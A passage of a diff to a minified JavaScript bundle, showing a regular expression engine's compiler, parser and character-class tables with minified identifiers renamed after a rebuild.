 e.out,t.out),s.nullable=e.nullable||t.nullable,s}loop(e,t){const s=this.newInst(ee.ALT),r=this.prog.getInst(s.i);return t?
 (r.arg=e.i,s.out=new gn(s.i<<1,s.i<<1)):(r.out=e.i,s.out=new gn(s.i<<1|1,s.i<<1|1)),this.prog.patch(e.out,s.i),s}quest(e,t){
 if(e.i===0)return this.nop();const s=this.newInst(ee.ALT),r=this.prog.getInst(s.i);return t?(r.arg=e.i,s.out=new gn(s.i<<
 1,s.i<<1)):(r.out=e.i,s.out=new gn(s.i<<1|1,s.i<<1|1)),s.out=this.prog.append(s.out,e.out),s}star(e,t){return e.i===0?this.
-nop():e.nullable?this.quest(this.plus(e,t),t):this.loop(e,t)}plus(e,t){return e.i===0?this.fail():new bo(e.i,this.loop(e,
+nop():e.nullable?this.quest(this.plus(e,t),t):this.loop(e,t)}plus(e,t){return e.i===0?this.fail():new Eo(e.i,this.loop(e,
 t).out,e.nullable)}empty(e){const t=this.newInst(ee.EMPTY_WIDTH);return this.prog.getInst(t.i).arg=e,t.out=new gn(t.i<<1,
 t.i<<1),t}rune(e,t){const s=this.newInst(ee.RUNE);s.nullable=!1;const r=this.prog.getInst(s.i);return r.runes=e,t&=oe.FOLD_CASE,
 (e.length!==1||$e.simpleFold(e[0])===e[0])&&(t&=~oe.FOLD_CASE),r.arg=t,s.out=new gn(s.i<<1,s.i<<1),(t&oe.FOLD_CASE)===0&&
@@ -6659,25 +6667,25 @@ e.length===1||e.length===2&&e[0]===e[1]?r.op=ee.RUNE1:e.length===2&&e[0]===0&&e[
 4&&e[0]===0&&e[1]===ce.CODES[`
 `]-1&&e[2]===ce.CODES[`
 `]+1&&e[3]===$e.MAX_RUNE&&(r.op=ee.RUNE_ANY_NOT_NL),s}lookBehind(e,t){const s=Math.sign(t)*(Math.abs(t)+this.lbOffset),r=this.
-newInst(ee.LB_WRITE);this.prog.getInst(r.i).arg=s;const i=this.rune(im,0),o=this.star(i,!0),c=this.cat(o,e);this.prog.patch(
+newInst(ee.LB_WRITE);this.prog.getInst(r.i).arg=s;const i=this.rune(om,0),o=this.star(i,!0),c=this.cat(o,e);this.prog.patch(
 c.out,r.i);const l=this.newInst(ee.LB_CHECK);return this.prog.getInst(l.i).arg=s,this.prog.lbStarts.push(c.i),Math.abs(s)>
-this.prog.numLb&&(this.prog.numLb=Math.abs(s)),l.out=new gn(l.i<<1,l.i<<1),l}compile(e){return Qc.walk(e,this.walker)}leaf(e){
+this.prog.numLb&&(this.prog.numLb=Math.abs(s)),l.out=new gn(l.i<<1,l.i<<1),l}compile(e){return Xc.walk(e,this.walker)}leaf(e){
 switch(e.op){case M.Op.NO_MATCH:return this.fail();case M.Op.EMPTY_MATCH:return this.nop();case M.Op.LITERAL:{if(e.runes.
 length===0)return this.nop();let t=null;for(let s of e.runes){let r=this.runeCache.get(s);r===void 0&&(r=new Int32Array(
 [s]),this.runeCache.set(s,r));const i=this.rune(r,e.flags);t=t===null?i:this.cat(t,i)}return t}case M.Op.CHAR_CLASS:return this.
-rune(e.runes,e.flags);case M.Op.ANY_CHAR_NOT_NL:return this.rune(cT,0);case M.Op.ANY_CHAR:return this.rune(im,0);case M.
+rune(e.runes,e.flags);case M.Op.ANY_CHAR_NOT_NL:return this.rune(fT,0);case M.Op.ANY_CHAR:return this.rune(om,0);case M.
 Op.BEGIN_LINE:return this.empty(xe.EMPTY_BEGIN_LINE);case M.Op.END_LINE:return this.empty(xe.EMPTY_END_LINE);case M.Op.BEGIN_TEXT:
 return this.empty(xe.EMPTY_BEGIN_TEXT);case M.Op.END_TEXT:return this.empty(xe.EMPTY_END_TEXT);case M.Op.WORD_BOUNDARY:return this.
 empty(xe.EMPTY_WORD_BOUNDARY);case M.Op.NO_WORD_BOUNDARY:return this.empty(xe.EMPTY_NO_WORD_BOUNDARY);case M.Op.CONCAT:case M.
-Op.ALTERNATE:return this.nop();default:throw new zr("regexp: unhandled case in compile")}}enter(e){switch(e.op){case M.Op.
+Op.ALTERNATE:return this.nop();default:throw new Ur("regexp: unhandled case in compile")}}enter(e){switch(e.op){case M.Op.
 PLB:case M.Op.NLB:case M.Op.STAR:case M.Op.PLUS:case M.Op.QUEST:return{sub:null};case M.Op.CAPTURE:return{bra:this.cap(e.
-cap<<1),sub:null};case M.Op.CONCAT:case M.Op.ALTERNATE:return{f:null};default:throw new zr("regexp: unhandled case in co\
+cap<<1),sub:null};case M.Op.CONCAT:case M.Op.ALTERNATE:return{f:null};default:throw new Ur("regexp: unhandled case in co\
 mpile")}}child(e,t,s){e.op===M.Op.CONCAT?t.f=t.f===null?s:this.cat(t.f,s):e.op===M.Op.ALTERNATE?t.f=t.f===null?s:this.alt(
 t.f,s):t.sub=s}leave(e,t){switch(e.op){case M.Op.PLB:case M.Op.NLB:return this.lookBehind(t.sub,e.lb);case M.Op.CAPTURE:{
 const s=this.cap(e.cap<<1|1);return this.cat(this.cat(t.bra,t.sub),s)}case M.Op.STAR:return this.star(t.sub,(e.flags&oe.
 NON_GREEDY)!==0);case M.Op.PLUS:return this.plus(t.sub,(e.flags&oe.NON_GREEDY)!==0);case M.Op.QUEST:return this.quest(t.
-sub,(e.flags&oe.NON_GREEDY)!==0);case M.Op.CONCAT:case M.Op.ALTERNATE:return t.f;default:throw new zr("regexp: unhandled\
- case in compile")}}},am=class Yt{static simplify(e){return e===null?null:Qc.walk(e,Yt.WALKER)}static WALKER={leaf:e=>Yt.
+sub,(e.flags&oe.NON_GREEDY)!==0);case M.Op.CONCAT:case M.Op.ALTERNATE:return t.f;default:throw new Ur("regexp: unhandled\
+ case in compile")}}},cm=class Yt{static simplify(e){return e===null?null:Xc.walk(e,Yt.WALKER)}static WALKER={leaf:e=>Yt.
 leaf(e),enter:e=>Yt.enter(e),child:(e,t,s,r)=>Yt.child(e,t,s,r),leave:(e,t)=>Yt.leave(e,t)};static leaf(e){if(e.op===M.Op.
 CHAR_CLASS){if(e.runes===null)return e;if(e.runes.length===0)return new M(M.Op.NO_MATCH);if(e.runes.length===2&&e.runes[0]===
 0&&e.runes[1]===$e.MAX_RUNE)return new M(M.Op.ANY_CHAR);if(e.runes.length===4&&e.runes[0]===0&&e.runes[1]===ce.CODES[`
@@ -6704,24 +6712,24 @@ CONCAT){for(let o=0;o<i.subs.length;o++)t.push(i.subs[o]);continue}t.push(i)}}if
 if(t.length===1)return t[0];const s=new M(M.Op.CONCAT);return s.subs=t,s}static simplify1(e,t,s,r){if(s.op===M.Op.EMPTY_MATCH)
 return s;if(s.op===M.Op.NO_MATCH)return e===M.Op.PLUS?s:new M(M.Op.EMPTY_MATCH);if(e===s.op&&(t&oe.NON_GREEDY)===(s.flags&
 oe.NON_GREEDY))return s;if(r!==null&&r.op===e&&(r.flags&oe.NON_GREEDY)===(t&oe.NON_GREEDY)&&s===r.subs[0])return r;const i=new M(
-e);return i.flags=t,i.subs=[s],i}},gt=class{constructor(n,e){this.sign=n,this.cls=e}};const cm=[48,57],um=[9,10,12,13,32,
-32],lm=[48,57,65,90,95,95,97,122],dm=new Map([["\\d",new gt(1,cm)],["\\D",new gt(-1,cm)],["\\s",new gt(1,um)],["\\S",new gt(
--1,um)],["\\w",new gt(1,lm)],["\\W",new gt(-1,lm)]]),Bm=[48,57,65,90,97,122],fm=[65,90,97,122],hm=[0,127],pm=[9,9,32,32],
-mm=[0,31,127,127],gm=[48,57],Cm=[33,126],ym=[97,122],wm=[32,126],bm=[33,47,58,64,91,96,123,126],_m=[9,13,32,32],Em=[65,90],
-vm=[48,57,65,90,95,95,97,122],km=[48,57,65,70,97,102],Dm=new Map([["[:alnum:]",new gt(1,Bm)],["[:^alnum:]",new gt(-1,Bm)],
-["[:alpha:]",new gt(1,fm)],["[:^alpha:]",new gt(-1,fm)],["[:ascii:]",new gt(1,hm)],["[:^ascii:]",new gt(-1,hm)],["[:blan\
-k:]",new gt(1,pm)],["[:^blank:]",new gt(-1,pm)],["[:cntrl:]",new gt(1,mm)],["[:^cntrl:]",new gt(-1,mm)],["[:digit:]",new gt(
-1,gm)],["[:^digit:]",new gt(-1,gm)],["[:graph:]",new gt(1,Cm)],["[:^graph:]",new gt(-1,Cm)],["[:lower:]",new gt(1,ym)],[
-"[:^lower:]",new gt(-1,ym)],["[:print:]",new gt(1,wm)],["[:^print:]",new gt(-1,wm)],["[:punct:]",new gt(1,bm)],["[:^punc\
-t:]",new gt(-1,bm)],["[:space:]",new gt(1,_m)],["[:^space:]",new gt(-1,_m)],["[:upper:]",new gt(1,Em)],["[:^upper:]",new gt(
--1,Em)],["[:word:]",new gt(1,vm)],["[:^word:]",new gt(-1,vm)],["[:xdigit:]",new gt(1,km)],["[:^xdigit:]",new gt(-1,km)]]);
-var Is=class To{static charClassToString(e,t){let s="[";for(let r=0;r<t;r+=2){r>0&&(s+=" ");const i=e[r],o=e[r+1];i===o?
+e);return i.flags=t,i.subs=[s],i}},gt=class{constructor(n,e){this.sign=n,this.cls=e}};const um=[48,57],lm=[9,10,12,13,32,
+32],dm=[48,57,65,90,95,95,97,122],Bm=new Map([["\\d",new gt(1,um)],["\\D",new gt(-1,um)],["\\s",new gt(1,lm)],["\\S",new gt(
+-1,lm)],["\\w",new gt(1,dm)],["\\W",new gt(-1,dm)]]),fm=[48,57,65,90,97,122],hm=[65,90,97,122],pm=[0,127],mm=[9,9,32,32],
+gm=[0,31,127,127],Cm=[48,57],ym=[33,126],wm=[97,122],bm=[32,126],_m=[33,47,58,64,91,96,123,126],Em=[9,13,32,32],vm=[65,90],
+km=[48,57,65,90,95,95,97,122],Dm=[48,57,65,70,97,102],xm=new Map([["[:alnum:]",new gt(1,fm)],["[:^alnum:]",new gt(-1,fm)],
+["[:alpha:]",new gt(1,hm)],["[:^alpha:]",new gt(-1,hm)],["[:ascii:]",new gt(1,pm)],["[:^ascii:]",new gt(-1,pm)],["[:blan\
+k:]",new gt(1,mm)],["[:^blank:]",new gt(-1,mm)],["[:cntrl:]",new gt(1,gm)],["[:^cntrl:]",new gt(-1,gm)],["[:digit:]",new gt(
+1,Cm)],["[:^digit:]",new gt(-1,Cm)],["[:graph:]",new gt(1,ym)],["[:^graph:]",new gt(-1,ym)],["[:lower:]",new gt(1,wm)],[
+"[:^lower:]",new gt(-1,wm)],["[:print:]",new gt(1,bm)],["[:^print:]",new gt(-1,bm)],["[:punct:]",new gt(1,_m)],["[:^punc\
+t:]",new gt(-1,_m)],["[:space:]",new gt(1,Em)],["[:^space:]",new gt(-1,Em)],["[:upper:]",new gt(1,vm)],["[:^upper:]",new gt(
+-1,vm)],["[:word:]",new gt(1,km)],["[:^word:]",new gt(-1,km)],["[:xdigit:]",new gt(1,Dm)],["[:^xdigit:]",new gt(-1,Dm)]]);
+var Is=class $o{static charClassToString(e,t){let s="[";for(let r=0;r<t;r+=2){r>0&&(s+=" ");const i=e[r],o=e[r+1];i===o?
 s+=`0x${i.toString(16)}`:s+=`0x${i.toString(16)}-0x${o.toString(16)}`}return s+="]",s}static sortRanges(e,t){const s=t>>
 1,r=new Array(s);for(let o=0;o<s;o++)r[o]=o;r.sort((o,c)=>e[2*o]-e[2*c]||e[2*c+1]-e[2*o+1]);const i=e.slice(0,t);for(let o=0;o<
 s;o++)e[2*o]=i[2*r[o]],e[2*o+1]=i[2*r[o]+1]}constructor(e=xe.emptyInts()){this.r=e,this.len=e.length}toArray(){return this.
 r instanceof Int32Array?this.len===this.r.length?this.r:this.r.subarray(0,this.len):new Int32Array(this.len===this.r.length?
 this.r:this.r.slice(0,this.len))}toGrowableArray(){return Array.isArray(this.r)?(this.r.length=this.len,this.r):Array.from(
-this.r.subarray(0,this.len))}cleanClass(){if(this.len<4)return this;To.sortRanges(this.r,this.len);let e=2;for(let t=2;t<
+this.r.subarray(0,this.len))}cleanClass(){if(this.len<4)return this;$o.sortRanges(this.r,this.len);let e=2;for(let t=2;t<
 this.len;t+=2){const s=this.r[t],r=this.r[t+1];if(s<=this.r[e-1]+1){r>this.r[e-1]&&(this.r[e-1]=r);continue}this.r[e]=s,
 this.r[e+1]=r,e+=2}return this.len=e,this}appendLiteral(e,t){return(t&oe.FOLD_CASE)!==0?this.appendFoldedRange(e,e):this.
 appendRange(e,e)}appendRange(e,t){if(this.len>0){for(let s=2;s<=4;s+=2)if(this.len>=s){const r=this.r[this.len-s],i=this.
@@ -6739,13 +6747,13 @@ if(o===1){t<=r-1&&this.appendRange(t,r-1),t=i+1;continue}for(let c=r;c<=i;c+=o)t
 $e.MAX_RUNE&&this.appendRange(t,$e.MAX_RUNE),this}appendTableWithSign(e,t){return t<0?this.appendNegatedTable(e):this.appendTable(
 e)}negateClass(){let e=0,t=0;for(let s=0;s<this.len;s+=2){const r=this.r[s],i=this.r[s+1];e<=r-1&&(this.r[t]=e,this.r[t+
 1]=r-1,t+=2),e=i+1}return this.len=t,e<=$e.MAX_RUNE&&(this.r[this.len++]=e,this.r[this.len++]=$e.MAX_RUNE),this}appendClassWithSign(e,t){
-return t<0?this.appendNegatedClass(e):this.appendClass(e)}appendGroup(e,t){let s=e.cls;return t&&(s=new To().appendFoldedClass(
-s).cleanClass().toArray()),this.appendClassWithSign(s,e.sign)}toString(){return To.charClassToString(this.r,this.len)}},
-uT=class{constructor(n){this.str=n,this.position=0}pos(){return this.position}rewindTo(n){this.position=n}more(){return this.
+return t<0?this.appendNegatedClass(e):this.appendClass(e)}appendGroup(e,t){let s=e.cls;return t&&(s=new $o().appendFoldedClass(
+s).cleanClass().toArray()),this.appendClassWithSign(s,e.sign)}toString(){return $o.charClassToString(this.r,this.len)}},
+hT=class{constructor(n){this.str=n,this.position=0}pos(){return this.position}rewindTo(n){this.position=n}more(){return this.
 position<this.str.length}peek(){return this.str.codePointAt(this.position)}skip(n){this.position+=n}skipString(n){this.position+=
 n.length}pop(){const n=this.str.codePointAt(this.position);return this.position+=xe.charCount(n),n}lookingAt(n){return this.
 str.startsWith(n,this.position)}rest(){return this.str.substring(this.position)}from(n){return this.str.substring(n,this.
-position)}toString(){return this.rest()}},Jr=class Ue{static ERR_INTERNAL_ERROR="regexp/syntax: internal error";static ERR_INVALID_CHAR_RANGE="\
+position)}toString(){return this.rest()}},Zr=class Ue{static ERR_INTERNAL_ERROR="regexp/syntax: internal error";static ERR_INVALID_CHAR_RANGE="\
 invalid character class range";static ERR_INVALID_ESCAPE="invalid escape sequence";static ERR_INVALID_NAMED_CAPTURE="inv\
 alid named capture";static ERR_INVALID_PERL_OP="invalid or unsupported Perl syntax";static ERR_INVALID_REPEAT_OP="invali\
 d nested repetition operator";static ERR_INVALID_REPEAT_SIZE="invalid repeat count";static ERR_MISSING_BRACKET="missing \
@@ -6856,7 +6864,7 @@ length),e.runes.length===0&&(e.op=M.Op.EMPTY_MATCH)),e}removeLeadingRegexp(e,t){
 switch(t&&this.reuse(e.subs[0]),e.subs=e.subs.slice(1,e.subs.length),e.subs.length){case 0:e.op=M.Op.EMPTY_MATCH,e.subs=
 M.emptySubs();break;case 1:{const s=e;e=e.subs[0],this.reuse(s);break}}return e}return t&&this.reuse(e),this.newRegexp(M.
 Op.EMPTY_MATCH)}parseInternal(){if((this.flags&oe.LITERAL)!==0)return Ue.literalRegexp(this.wholeRegexp,this.flags);let e=-1,
-t=-1,s=-1;const r=new uT(this.wholeRegexp);for(;r.more();){let i=-1;e:switch(r.peek()){case ce.CODES["("]:if((this.flags&
+t=-1,s=-1;const r=new hT(this.wholeRegexp);for(;r.more();){let i=-1;e:switch(r.peek()){case ce.CODES["("]:if((this.flags&
 oe.LOOKBEHIND)!==0){if(r.lookingAt("(?<=")){this.parsePosLookBehind(),r.skip(4);break}if(r.lookingAt("(?<!")){this.parseNegLookBehind(),
 r.skip(4);break}}if((this.flags&oe.PERL_X)!==0&&r.lookingAt("(?")){this.parsePerlFlags(r);break}this.op(M.Op.LEFT_PAREN).
 cap=++this.numCap,r.skip(1);break;case ce.CODES["|"]:this.parseVerticalBar(),r.skip(1);break;case ce.CODES[")"]:this.parseRightParen(),
@@ -6896,9 +6904,9 @@ const e=this.pop(),t=this.pop();if(t.op!==M.Op.LEFT_PAREN)throw new xt(Ue.ERR_UN
 flags=t.flags,t.lb!==0){if(Ue.hasCapture(e))throw new xt(Ue.ERR_INVALID_CAPTURE_IN_LOOKBEHIND,this.wholeRegexp);t.lb>0?t.
 op=M.Op.PLB:t.op=M.Op.NLB,t.subs=[e],this.push(t);return}t.cap===0?this.push(e):(t.op=M.Op.CAPTURE,t.subs=[e],this.push(
 t))}parsePerlClassEscape(e,t){const s=e.pos();if((this.flags&oe.PERL_X)===0||!e.more()||e.pop()!==ce.CODES["\\"]||!e.more())
-return!1;e.pop();const r=e.from(s),i=dm.has(r)?dm.get(r):null;return i===null?!1:(t.appendGroup(i,(this.flags&oe.FOLD_CASE)!==
+return!1;e.pop();const r=e.from(s),i=Bm.has(r)?Bm.get(r):null;return i===null?!1:(t.appendGroup(i,(this.flags&oe.FOLD_CASE)!==
 0),!0)}parseNamedClass(e,t){const s=e.rest(),r=s.indexOf(":]");if(r<0)return!1;const i=s.substring(0,r+2);e.skipString(i);
-const o=Dm.has(i)?Dm.get(i):null;if(o===null)throw new xt(Ue.ERR_INVALID_CHAR_RANGE,i);return t.appendGroup(o,(this.flags&
+const o=xm.has(i)?xm.get(i):null;if(o===null)throw new xt(Ue.ERR_INVALID_CHAR_RANGE,i);return t.appendGroup(o,(this.flags&
 oe.FOLD_CASE)!==0),!0}parseUnicodeClass(e,t){const s=e.pos();if((this.flags&oe.UNICODE_GROUPS)===0||!e.lookingAt("\\p")&&
 !e.lookingAt("\\P"))return!1;e.skip(1);let r=1,i=e.pop();if(i===ce.CODES.P&&(r=-1),!e.more())throw e.rewindTo(s),new xt(
 Ue.ERR_INVALID_CHAR_RANGE,e.rest());i=e.pop();let o;if(i!==ce.CODES["{"])o=xe.runeToString(i);else{const d=e.rest(),h=d.
@@ -6916,28 +6924,28 @@ pos();if(e.lookingAt("[:")){if(this.parseNamedClass(e,r))continue;e.rewindTo(c)}
 e,r))continue;e.rewindTo(c);const l=Ue.parseClassChar(e,t);let B=l;if(e.more()&&e.lookingAt("-")){if(e.skip(1),e.more()&&
 e.lookingAt("]"))e.skip(-1);else if(B=Ue.parseClassChar(e,t),B<l)throw new xt(Ue.ERR_INVALID_CHAR_RANGE,e.from(c))}(this.
 flags&oe.FOLD_CASE)===0?r.appendRange(l,B):r.appendFoldedRange(l,B)}e.skip(1),r.cleanClass(),i<0&&r.negateClass(),s.runes=
-r.toArray(),this.push(s)}},lT=class Fs{static initTest(e){const t=Fs.compile(e),s=new Fs(t.expr,t.prog,t.numSubexp,t.longest);
+r.toArray(),this.push(s)}},pT=class Fs{static initTest(e){const t=Fs.compile(e),s=new Fs(t.expr,t.prog,t.numSubexp,t.longest);
 return s.cond=t.cond,s.prefix=t.prefix,s.prefixUTF8=t.prefixUTF8,s.prefixComplete=t.prefixComplete,s.prefixRune=t.prefixRune,
 s.prefilter=t.prefilter,s.namedGroups=t.namedGroups,s}static compile(e){return Fs.compileImpl(e,oe.PERL,!1)}static compilePOSIX(e){
-return Fs.compileImpl(e,oe.POSIX,!0)}static compileImpl(e,t,s){let r=Jr.parse(e,t);const i=r.maxCap(),o=r.namedGroups;r=
-am.simplify(r);const c=oT.build(r),l=om.compileRegexp(r),B=new Fs(e,l,i,s);B.prefilter=c.type===st.Type.NONE?null:c;const[
+return Fs.compileImpl(e,oe.POSIX,!0)}static compileImpl(e,t,s){let r=Zr.parse(e,t);const i=r.maxCap(),o=r.namedGroups;r=
+cm.simplify(r);const c=dT.build(r),l=am.compileRegexp(r),B=new Fs(e,l,i,s);B.prefilter=c.type===st.Type.NONE?null:c;const[
 d,h]=l.prefix();return B.prefixComplete=d,B.prefix=h,B.prefixUTF8=xe.stringToUtf8ByteArray(B.prefix),B.prefix.length>0&&
 (B.prefixRune=B.prefix.codePointAt(0)),B.namedGroups=o,B}static match(e,t){return Fs.compile(e).match(t)}constructor(e,t,s=0,r=0){
 this.expr=e,this.prog=t,this.numSubexp=s,this.longest=r,this.cond=t.startCond(),this.prefix=null,this.prefixUTF8=null,this.
 prefixComplete=!1,this.prefixRune=0,this.namedGroups=Object.create(null),this.machinePool=[],this.lazyDFA=null,this.onepass=
-sm.compile(this.prog),this.prefilter=null}get dfa(){return this.lazyDFA===null&&(this.lazyDFA=new Yc(this.prog)),this.lazyDFA}matchPrefixComplete(e,t,s,r){
+rm.compile(this.prog),this.prefilter=null}get dfa(){return this.lazyDFA===null&&(this.lazyDFA=new Vc(this.prog)),this.lazyDFA}matchPrefixComplete(e,t,s,r){
 if((s===oe.ANCHOR_START||s===oe.ANCHOR_BOTH)&&t!==0)return null;let i=-1,o=-1;const c=e.prefixLength(this);if(s===oe.UNANCHORED){
 const l=e.index(this,t);if(l<0)return null;i=t+l,o=i+c}else if(s===oe.ANCHOR_BOTH){if(e.endPos()!==c||e.index(this,0)!==
 0)return null;i=0,o=c}else if(s===oe.ANCHOR_START){if(e.index(this,0)!==0)return null;i=0,o=c}if(i<0)return null;if(r>0){
 const l=new Int32Array(r).fill(-1);return l[0]=i,l[1]=o,Array.from(l)}return[]}createLookbehindState(){return this.prog.
-numLb>0?new qS(this.prog):null}executeEngine(e,t,s,r,i=null){if(this.prefixComplete&&(r===0||this.numSubexp===0))return this.
+numLb>0?new eT(this.prog):null}executeEngine(e,t,s,r,i=null){if(this.prefixComplete&&(r===0||this.numSubexp===0))return this.
 matchPrefixComplete(e,t,s,r);if(this.prefilter!==null&&s===oe.UNANCHORED&&!this.prefilter.eval(e,t))return null;if(this.
-onepass!==null)return sm.execute(this,e,t,s,r);if(r>0)return this.prog.numLb===0&&e.endPos()<=wo.maxBitStateLen(this.prog)?
-wo.execute(this,e,t,s,r):this.doExecuteNFA(e,t,s,r,i);if(this.prog.numLb===0){const o=this.dfa.match(e,t,s);if(o!==null)
-return o?[]:null;if(e.endPos()<=wo.maxBitStateLen(this.prog))return wo.execute(this,e,t,s,r)}return this.doExecuteNFA(e,
+onepass!==null)return rm.execute(this,e,t,s,r);if(r>0)return this.prog.numLb===0&&e.endPos()<=_o.maxBitStateLen(this.prog)?
+_o.execute(this,e,t,s,r):this.doExecuteNFA(e,t,s,r,i);if(this.prog.numLb===0){const o=this.dfa.match(e,t,s);if(o!==null)
+return o?[]:null;if(e.endPos()<=_o.maxBitStateLen(this.prog))return _o.execute(this,e,t,s,r)}return this.doExecuteNFA(e,
 t,s,r,i)}numberOfCapturingGroups(){return this.numSubexp}numberOfInstructions(){return this.prog.numInst()}get(){return this.
 machinePool.length>0?this.machinePool.pop():null}reset(){this.machinePool.length=0}put(e){this.machinePool.push(e)}toString(){
-return this.expr}doExecuteNFA(e,t,s,r,i=null){let o=this.get();o||(o=Xp.fromRE2(this)),o.init(r);const c=o.match(e,t,s,i)?
+return this.expr}doExecuteNFA(e,t,s,r,i=null){let o=this.get();o||(o=em.fromRE2(this)),o.init(r);const c=o.match(e,t,s,i)?
 o.submatches():null;return this.put(o),c}match(e){return this.executeEngine(vt.fromUTF16(e),0,oe.UNANCHORED,0)!==null}matchWithGroup(e,t,s,r,i,o=null){
 return e instanceof Ss||(xe.isByteArray(e)?e=Ts.utf8(e):e=Ts.utf16(e)),this.matchMachineInput(e,t,s,r,i,o)}matchMachineInput(e,t,s,r,i,o=null){
 if(t>s)return[!1,null];const c=e.isUTF16Encoding()?vt.fromUTF16(e.asCharSequence(),0,s):vt.fromUTF8(e.asBytes(),0,s),l=this.
@@ -6968,19 +6976,19 @@ for(let o=0;o<i.length;o++)r[2*o]>=0&&(i[o]=e.slice(r[2*o],r[2*o+1]));return i})
 const s=this.allMatches(vt.fromUTF8(e),t);return s.length===0?null:s}findAllSubmatch(e,t){const s=this.allMatches(vt.fromUTF16(
 e),t,r=>{let i=new Array(r.length/2|0).fill(null);for(let o=0;o<i.length;o++)r[2*o]>=0&&(i[o]=e.substring(r[2*o],r[2*o+1]));
 return i});return s.length===0?null:s}findAllSubmatchIndex(e,t){const s=this.allMatches(vt.fromUTF16(e),t);return s.length===
-0?null:s}},CF=class Ps{static UNANCHORED=oe.UNANCHORED;static ANCHOR_START=oe.ANCHOR_START;static ANCHOR_BOTH=oe.ANCHOR_BOTH;constructor(e=Ps.
-UNANCHORED,t=0,s=8388608){if(![Ps.UNANCHORED,Ps.ANCHOR_START,Ps.ANCHOR_BOTH].includes(e))throw new Wp("The anchor should\
+0?null:s}},_F=class Ps{static UNANCHORED=oe.UNANCHORED;static ANCHOR_START=oe.ANCHOR_START;static ANCHOR_BOTH=oe.ANCHOR_BOTH;constructor(e=Ps.
+UNANCHORED,t=0,s=8388608){if(![Ps.UNANCHORED,Ps.ANCHOR_START,Ps.ANCHOR_BOTH].includes(e))throw new Kp("The anchor should\
  be RE2Set.UNANCHORED, RE2Set.ANCHOR_START or RE2Set.ANCHOR_BOTH");xe.checkFlags(t),this.anchor=e,this.jsFlags=t,this.maxMem=
 s;let r=oe.PERL;(t&Kt.DISABLE_UNICODE_GROUPS)!==0&&(r&=~oe.UNICODE_GROUPS),(t&Kt.LOOKBEHINDS)!==0&&(r|=oe.LOOKBEHIND),this.
-re2Flags=r,this.regexps=[],this.prog=null,this.dfa=null,this.dummyRe2=null}add(e){if(this.prog)throw new zr("Cannot add \
+re2Flags=r,this.regexps=[],this.prog=null,this.dfa=null,this.dummyRe2=null}add(e){if(this.prog)throw new Ur("Cannot add \
 patterns after compile");xe.checkPattern(e);let t=e;(this.jsFlags&Kt.CASE_INSENSITIVE)!==0&&(t=`(?i)${t}`),(this.jsFlags&
-Kt.DOTALL)!==0&&(t=`(?s)${t}`),(this.jsFlags&Kt.MULTILINE)!==0&&(t=`(?m)${t}`);const s=Jr.parse(t,this.re2Flags);return this.
-regexps.push(am.simplify(s)),this.regexps.length-1}compile(){if(this.prog)return;const e=om.compileSet(this.regexps);if(e.
-numInst()>Jr.MAX_SIZE)throw new zr(`${Jr.ERR_LARGE}: the set compiles to ${e.numInst()} instructions, more than ${Jr.MAX_SIZE}`);
-this.prog=e,this.dfa=new Yc(this.prog,this.maxMem),this.dummyRe2={prog:this.prog,cond:this.prog.startCond(),prefix:"",prefixRune:0,
+Kt.DOTALL)!==0&&(t=`(?s)${t}`),(this.jsFlags&Kt.MULTILINE)!==0&&(t=`(?m)${t}`);const s=Zr.parse(t,this.re2Flags);return this.
+regexps.push(cm.simplify(s)),this.regexps.length-1}compile(){if(this.prog)return;const e=am.compileSet(this.regexps);if(e.
+numInst()>Zr.MAX_SIZE)throw new Ur(`${Zr.ERR_LARGE}: the set compiles to ${e.numInst()} instructions, more than ${Zr.MAX_SIZE}`);
+this.prog=e,this.dfa=new Vc(this.prog,this.maxMem),this.dummyRe2={prog:this.prog,cond:this.prog.startCond(),prefix:"",prefixRune:0,
 longest:!1}}match(e){this.prog||this.compile();const t=xe.isByteArray(e)?vt.fromUTF8(e):vt.fromUTF16(e);let s=oe.UNANCHORED;
 this.anchor===Ps.ANCHOR_START?s=oe.ANCHOR_START:this.anchor===Ps.ANCHOR_BOTH&&(s=oe.ANCHOR_BOTH);const r=this.dfa.matchSet(
-t,0,s);if(r!==null)return r;const i=Xp.fromRE2(this.dummyRe2);return i.init(0),i.matchSet(t,0,s)}},dT=class sr{static isHexadecimal(e){
+t,0,s);if(r!==null)return r;const i=em.fromRE2(this.dummyRe2);return i.init(0),i.matchSet(t,0,s)}},mT=class sr{static isHexadecimal(e){
 return"0"<=e&&e<="9"||"A"<=e&&e<="F"||"a"<=e&&e<="f"}static translate(e){let t="";if(Object.prototype.toString.call(e)===
 "[object RegExp]"&&(e.ignoreCase&&(t+="i"),e.multiline&&(t+="m"),e.dotAll&&(t+="s"),e=e.source),typeof e!="string")return e;
 let s="",r=!1,i=e.length;i===0&&(s="(?:)",r=!0);let o=!1,c=0;for(;c<i;){let B=e[c];if(B==="\\"){if(c+1<i)switch(B=e[c+1],
@@ -6998,91 +7006,91 @@ charCount(g);s+=e.substring(c+1,c+1+C),c+=C+1,r=!0}else{s+="\\";let C=xe.charCou
 "/"){s+="\\/",c+=1,r=!0;continue}else if(B==="["){if(!o&&e[c+1]==="]"){s+="[^\\x00-\\x{10FFFF}]",c+=2,r=!0;continue}if(!o&&
 e[c+1]==="^"&&e[c+2]==="]"){s+="[\\x00-\\x{10FFFF}]",c+=3,r=!0;continue}o=!0}else if(B==="]")o=!1;else if(!o&&B==="("&&c+
 2<i&&e[c+1]==="?"&&e[c+2]==="<"&&c+3<i&&!"=!>)".includes(e[c+3])){s+="(?P<",c+=3,r=!0;continue}let d=e.codePointAt(c),h=xe.
-charCount(d);s+=e.substring(c,c+h),c+=h}const l=r?s:e;return t.length>0?`(?${t})${l}`:l}};const xm=(n,e)=>{const t=n.matchArray();
+charCount(d);s+=e.substring(c,c+h),c+=h}const l=r?s:e;return t.length>0?`(?${t})${l}`:l}};const Om=(n,e)=>{const t=n.matchArray();
 return t.index=n.start(0),t.input=e,t.groups=n.namedGroupsObject(),t};var $s=class Gn{static CASE_INSENSITIVE=Kt.CASE_INSENSITIVE;static DOTALL=Kt.
 DOTALL;static MULTILINE=Kt.MULTILINE;static DISABLE_UNICODE_GROUPS=Kt.DISABLE_UNICODE_GROUPS;static LONGEST_MATCH=Kt.LONGEST_MATCH;static LOOKBEHINDS=Kt.
-LOOKBEHINDS;static quote(e){return xe.quoteMeta(e)}static quoteReplacement(e,t=!1){return Vp.quoteReplacement(e,t)}static translateRegExp(e){
-return dT.translate(e)}static compile(e,t=0){xe.checkPattern(e),xe.checkFlags(t);let s=e;(t&Gn.CASE_INSENSITIVE)!==0&&(s=
